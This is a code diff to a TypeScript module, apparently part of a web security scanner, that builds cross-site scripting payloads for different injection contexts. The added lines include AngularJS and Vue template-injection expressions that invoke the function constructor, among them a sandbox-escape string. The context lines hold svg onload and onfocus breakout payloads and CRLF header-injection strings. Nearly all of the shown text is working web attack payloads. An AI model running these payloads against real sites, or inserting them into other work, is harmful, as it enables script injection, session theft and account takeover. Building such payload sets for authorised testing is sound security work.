@@ -32,6 +32,7 @@ export const payloadsFor = (
 
 /** Entities are decoded in a handler, so encoding keeps nothing out; a lost backslash frees the quote behind it. */
 const needed = ({ kind, quote }: Context, payload: string): readonly string[] => {
+  if (kind === 'template') return ['{']
   if (kind === 'handler') return payload.includes('\\') ? ['\\'] : []
   const freed =
     kind === 'script' && quote !== '' && payload.startsWith(`\\${quote}`)
@@ -64,6 +65,8 @@ const candidates = ({ kind, tag, quote }: Context, value: string, call: string):
       return quote === ''
         ? [call, `${value};${call}`]
         : [`${value}${quote};${call};${quote}`, `${value}${quote}-${call}-${quote}`]
+    case 'template':
+      return TEMPLATES.map((way) => way(call))
     case 'script':
       return [...inScript(value, quote, call), `</script><svg onload=${call}>`, `</script><svg/onload=${call}>`]
   }
@@ -71,11 +74,11 @@ const candidates = ({ kind, tag, quote }: Context, value: string, call: string):
 
 const leaving = (value: string, quote: Context['quote'], call: string): readonly string[] =>
   quote === ''
-    ? [`${value}><svg/onload=${call}>`, `${value} autofocus onfocus=${call} `]
+    ? [`${value}><svg/onload=${call}>`, `${value} autofocus tabindex=1 onfocus=${call} `]
     : [
         `${value}${quote}><svg onload=${call}>`,
         `${value}${quote}><svg/onload=${call}>`,
-        `${value}${quote} autofocus onfocus=${call} x=${quote}`,
+        `${value}${quote} autofocus tabindex=1 onfocus=${call} x=${quote}`,
       ]
 
 const inScript = (value: string, quote: Context['quote'], call: string): readonly string[] => {
@@ -93,6 +96,13 @@ const inScript = (value: string, quote: Context['quote'], call: string): readonl
   }
 }
 
+/** Expressions of AngularJS and Vue that reach the function constructor; quotes in them may come back as entities. */
+const TEMPLATES: readonly ((call: string) => string)[] = [
+  (call) => `{{constructor.constructor('${call}')()}}`,
+  (call) => `{{$emit.constructor('${call}')()}}`,
+  (call) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//');}}`,
+]
+
 /** Elements that do nothing. */
 export const markupOf = (value: string, word: string): string => `${value}<b id=${word}>${word}</b>`
 
@@ -109,9 +119,4 @@ export const REDIRECTS: readonly ((host: string, own: string) => string)[] = [
 export const HEADERS: readonly ((value: string, name: string) => string)[] = [
   (value, name) => `${value}\r\n${name}: 1`,
   (value, name) => `${value}\n${name}: 1`,
-]
-
-export const FRAGMENTS: readonly ((call: string) => string)[] = [
-  (call) => `<img src=x onerror=${call}>`,
-  (call) => `javascript:${call}`,
 ]
